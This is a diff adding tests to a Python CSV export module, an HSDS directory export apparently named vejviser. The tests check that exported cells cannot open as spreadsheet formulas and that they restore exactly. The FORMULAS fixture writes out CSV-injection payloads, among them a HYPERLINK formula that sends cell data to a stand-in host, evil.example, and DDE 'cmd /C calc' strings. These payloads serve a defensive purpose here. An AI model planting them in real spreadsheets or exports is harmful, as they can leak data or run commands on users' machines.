@@ -1,17 +1,21 @@
-"""HSDS tabular export: the layout's files, with the specification's column names."""
+"""HSDS tabular export: the layout's files, with the specification's column names, and cells a
+spreadsheet cannot run as formulas."""
 from __future__ import annotations
 
 import csv
 import io
+import json
 import zipfile
 from pathlib import Path
+from typing import Any
 
 from flask import Flask
 
-from tests.hsds.helpers import example
+from tests.hsds.helpers import example, opens_as_formula, small_service
 from vejviser.db import db
+from vejviser.hsds.csvcells import restore
 from vejviser.hsds.export import all_offers, iter_documents
-from vejviser.hsds.tabular import layout, write_tabular
+from vejviser.hsds.tabular import flatten, layout, render, write_tabular
 
 EXPECTED = {"organizations.csv", "services.csv", "locations.csv", "service_at_location.csv",
             "schedules.csv", "phones.csv", "contacts.csv", "languages.csv", "addresses.csv",
@@ -63,3 +67,86 @@ def test_csv_export_to_zip(seeded_app: Flask, tmp_path: Path) -> None:
         assert EXPECTED <= set(archive.namelist())
         text = archive.read("services.csv").decode("utf-8")
     assert len(list(csv.DictReader(io.StringIO(text)))) == len(documents)
+
+
+#: Cells a spreadsheet would run, and text that starts with our own escape.
+FORMULAS = {
+    "description": '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
+    "alternate_name": "=cmd|' /C calc'!A0",
+    "alert": "-2+3+cmd|' /C calc'!A1",
+    "fees_description": "+SUM(1+1)",
+    "application_process": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "eligibility_description": "'tis the season",
+}
+ORGANIZATION = {"name": "'=1+1", "description": "\t=1+1", "alternate_name": "\r=2+2"}
+
+
+def _hostile_service() -> dict[str, Any]:
+    document = small_service(name="-Formel", **FORMULAS)
+    document["organization"].update(ORGANIZATION)
+    document["phones"][0]["number"] = "+45 66 13 13 72"
+    document["service_at_locations"][0]["location"]["name"] = "-"
+    return document
+
+
+def _as_text(value: Any) -> str:
+    """What a CSV import must get back from a cell: the JSON value as text."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    return str(value)
+
+
+def _tables(files: dict[str, str]) -> dict[str, list[dict[str, str]]]:
+    return {name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in
+            files.items()}
+
+
+def _assert_safe_and_restorable(written: dict[str, list[dict[str, str]]],
+                                documents: list[dict[str, Any]]) -> None:
+    expected = flatten(documents)
+    for name, columns in layout().items():
+        assert len(written[name]) == len(expected.get(name, [])), name
+        for row, source in zip(written[name], expected.get(name, [])):
+            for column in columns:
+                assert not opens_as_formula(row[column]), (name, column, row[column])
+                assert restore(row[column]) == _as_text(source.get(column)), (name, column)
+
+
+def test_csv_cells_never_start_a_formula_and_restore_exactly() -> None:
+    documents = [_hostile_service()]  # as given: no import has cleaned the leading "\r"
+    written = _tables(render(flatten(documents)))
+    (service,), (organization,) = written["services.csv"], written["organizations.csv"]
+    assert service["description"] == "'" + FORMULAS["description"]
+    assert service["eligibility_description"] == "''tis the season"
+    assert service["name"] == "'-Formel"
+    assert organization["description"] == "'\t=1+1"
+    assert organization["alternate_name"] == "'\r=2+2"
+    assert written["phones.csv"][0]["number"] == "+45 66 13 13 72"
+    assert written["locations.csv"][0]["name"] == "'-"
+    _assert_safe_and_restorable(written, documents)
+
+
+def test_exported_csv_says_what_the_json_export_says(seeded_app: Flask, tmp_path: Path) -> None:
+    """Formulas stored in the catalogue: the CSV export neutralises them, and restoring every
+    cell gives back exactly the values of the JSON export of the same catalogue."""
+    runner = seeded_app.test_cli_runner()
+    source = tmp_path / "hostile.json"
+    source.write_text(json.dumps(_hostile_service()), encoding="utf-8")
+    assert runner.invoke(args=["import", str(source)]).exit_code == 0
+    target = tmp_path / "hsds.zip"
+    result = runner.invoke(args=["export", "--format", "hsds-csv", "--output", str(target)])
+    assert result.exit_code == 0, result.output
+    page = tmp_path / "hsds.json"
+    assert runner.invoke(args=["export", "--output", str(page)]).exit_code == 0
+    with zipfile.ZipFile(target) as archive:
+        written = _tables({name: archive.read(name).decode("utf-8")
+                           for name in archive.namelist()})
+    services = {row["name"]: row for row in written["services.csv"]}
+    assert services["'-Formel"]["description"] == "'" + FORMULAS["description"]
+    assert services["'-Formel"]["alert"] == "'" + FORMULAS["alert"]
+    organizations = {row["name"]: row for row in written["organizations.csv"]}
+    assert organizations["''=1+1"]["description"] == "'\t=1+1"
+    documents = json.loads(page.read_text(encoding="utf-8"))["contents"]
+    _assert_safe_and_restorable(written, documents)
